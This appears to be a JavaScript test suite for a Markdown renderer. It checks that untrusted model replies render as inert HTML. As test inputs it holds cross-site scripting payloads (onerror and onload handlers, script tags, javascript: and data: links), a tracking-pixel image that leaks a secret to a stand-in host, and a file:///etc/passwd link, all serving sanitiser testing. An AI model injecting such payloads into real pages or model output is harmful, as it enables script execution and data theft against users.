// Replies are untrusted: whatever a model writes, the rendered HTML is inert.
import assert from "node:assert/strict";
import { test } from "node:test";
import { JSDOM } from "jsdom";

import { createMarkdownRenderer } from "../src/render/markdown.js";

const { window } = new JSDOM("<!doctype html><body></body>");
const render = createMarkdownRenderer({ window });

/** Render and parse back, as the browser would see it. */
function dom(text) {
  const container = window.document.createElement("div");
  container.innerHTML = render(text);
  return container;
}

function assertInert(container) {
  for (const node of container.querySelectorAll("*")) {
    for (const attribute of node.attributes) {
      assert.ok(!/^on/i.test(attribute.name), `event handler ${attribute.name} survived`);
      assert.ok(!/^\s*(javascript|data|vbscript):/i.test(attribute.value), `${attribute.value}`);
    }
  }
  for (const tag of ["script", "img", "iframe", "form", "style", "object", "embed", "svg"]) {
    assert.equal(container.querySelectorAll(tag).length, 0, `a <${tag}> survived`);
  }
}

test("raw HTML in a reply is shown as text, not run", () => {
  const container = dom('<img src=x onerror=alert(1)> and <script>alert("x")</script>');
  assertInert(container);
  assert.match(container.textContent, /<img src=x onerror=alert\(1\)>/);
  assert.match(container.textContent, /<script>alert\("x"\)<\/script>/);
});

test("javascript: and data: links lose their target", () => {
  const container = dom(
    '[x](javascript:alert(1)) [y](JaVaScRiPt:alert(2)) <a href="data:text/html,<script>alert(3)</script>">z</a> ' +
      "[w](data:text/html;base64,PHNjcmlwdD4=) <javascript:alert(4)>",
  );
  assertInert(container);
  for (const link of container.querySelectorAll("a")) {
    assert.match(link.getAttribute("href"), /^(https?|mailto):/);
  }
});

test("other tags and attributes a model might try are dropped", () => {
  const container = dom(
    "<iframe src=https://example.org></iframe><form action=https://x><input></form>" +
      "<style>body{display:none}</style><svg onload=alert(1)></svg>\n\n" +
      "![pixel](https://tracker.example/p.png?leak=secret)",
  );
  assertInert(container);
  // An image is offered as a link, never fetched.
  const link = [...container.querySelectorAll("a")].find((a) => a.textContent === "pixel");
  assert.equal(link?.getAttribute("href"), "https://tracker.example/p.png?leak=secret");
});

test("http(s) and mailto links stay, opening a new tab without an opener", () => {
  const container = dom(
    "[docs](https://example.org/docs) [plain](http://example.org) [mail](mailto:a@example.org) " +
      "https://auto.example.org/x",
  );
  const links = [...container.querySelectorAll("a")];
  assert.deepEqual(
    links.map((a) => a.getAttribute("href")),
    [
      "https://example.org/docs",
      "http://example.org",
      "mailto:a@example.org",
      "https://auto.example.org/x",
    ],
  );
  for (const link of links) {
    assert.equal(link.getAttribute("rel"), "noopener noreferrer");
    assert.equal(link.getAttribute("target"), "_blank");
  }
});

test("relative and other-scheme links are not links", () => {
  const container = dom("[api](/api/contents) [file](file:///etc/passwd) [anchor](#top)");
  assert.equal(container.querySelectorAll("a").length, 0);
  assert.match(container.textContent, /api.*file.*anchor/s);
});

test("a fenced python block is highlighted", () => {
  const container = dom("```python\ndef add(a, b):\n    return a + b  # sum\n```");
  const code = container.querySelector("pre > code");
  assert.ok(code, "a code block");
  assert.ok(code.classList.contains("language-python"));
  assert.equal(code.querySelector(".hljs-keyword")?.textContent, "def");
  assert.ok(code.querySelector(".hljs-comment"));
  assert.equal(code.textContent, "def add(a, b):\n    return a + b  # sum\n");
});

test("an unknown language is shown as plain, escaped code", () => {
  const container = dom("```nosuchlang\n<b>x</b>\n```");
  const code = container.querySelector("pre > code");
  assert.equal(code.textContent, "<b>x</b>\n");
  assert.equal(code.querySelectorAll("b").length, 0);
});

test("ordinary Markdown renders", () => {
  const container = dom(
    "# Title\n\n- **bold** and *em*\n- `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |",
  );
  assert.equal(container.querySelector("h1").textContent, "Title");
  assert.equal(container.querySelector("strong").textContent, "bold");
  assert.equal(container.querySelector("em").textContent, "em");
  assert.equal(container.querySelector("li code").textContent, "code");
  assert.equal(container.querySelectorAll("td").length, 2);
});

test("without a DOM to sanitise with, text is escaped whole", () => {
  const plain = createMarkdownRenderer({ window: null });
  assert.equal(plain("<b>x</b> [a](https://x)"), "<p>&lt;b&gt;x&lt;/b&gt; [a](https://x)</p>");
});
